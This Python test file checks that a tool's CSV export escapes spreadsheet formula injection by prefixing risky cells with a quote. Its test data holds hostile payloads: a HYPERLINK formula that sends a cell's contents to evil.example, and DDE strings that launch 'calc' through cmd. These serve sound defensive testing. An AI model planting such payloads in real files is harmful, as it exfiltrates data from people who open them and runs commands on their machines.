"""CSV exports are safe to open in a spreadsheet: a text cell that starts like a formula (``=``,
``+``, ``-``, ``@``, a tab, a carriage return: OWASP's CSV injection) is written with a leading
``'``, so it is shown, not evaluated; numbers (measured, or a flag value of the space) stay
numbers, negative ones too."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from cleanslate.report import load_report, to_csv
from cleanslate.report._export import csv_cell
from cleanslate.store import Store, StudyStatus, TrialRecord, TrialStatus
from tests.report.conftest import DATA

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(("value", "cell"), [(-3, -3), (-0.25, -0.25), (0, 0), (12.5, 12.5),
                                             (None, ""), (True, "True"), ("plain", "plain"),
                                             ("a=b", "a=b"), (float("-inf"), "'-inf"),
                                             ("-5", "'-5")])
def test_numbers_stay_numbers_and_plain_text_stays(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_an_export_of_hostile_values_holds_no_formula(tmp_path: Path) -> None:
    recorded = json.loads(DATA.read_text())["studies"][0]
    levels = recorded["trials"][0]["levels"]
    url = f"sqlite:///{tmp_path / 'cleanslate.db'}"
    store = Store(url)
    try:
        spec = {"name": "f", "engine": "sim", "model": "sim", "strategy": "grid",
                "space": {"offset": [-1, 2], "mode": [FORMULAS[0], "ok"], "=cmd": [1]},
                "objective": {"maximize": "output_throughput"}, "concurrency": [8]}
        store.save_study("f", spec, StudyStatus.FINISHED)
        store.save_trial(TrialRecord(study="f", number=0, status=TrialStatus.FEASIBLE,
                                     params={"offset": -1, "mode": FORMULAS[0], "=cmd": 1},
                                     value=levels[0]["output_throughput"],
                                     best_level=levels[0]["label"], levels=(levels[0],)))
        store.save_trial(TrialRecord(study="f", number=1, status=TrialStatus.INFEASIBLE,
                                     params={"offset": 2, "mode": "ok", "=cmd": 1},
                                     cause=FORMULAS[3], detail=FORMULAS[1]))
        text = to_csv([load_report(store, "f")])
    finally:
        store.close()
    rows = list(csv.reader(io.StringIO(text)))
    assert "'param.=cmd" not in rows[0] and "param.=cmd" in rows[0]  # starts with "p": text
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], cells
    records = list(csv.DictReader(io.StringIO(text)))
    first = next(r for r in records if r["number"] == "0")
    assert first["param.offset"] == "-1"  # a number, read as one
    assert first["param.mode"] == "'" + FORMULAS[0]
    assert float(first["output_throughput"]) == levels[0]["output_throughput"]
    second = next(r for r in records if r["number"] == "1")
    assert second["cause"] == "'" + FORMULAS[3] and second["detail"] == "'" + FORMULAS[1]
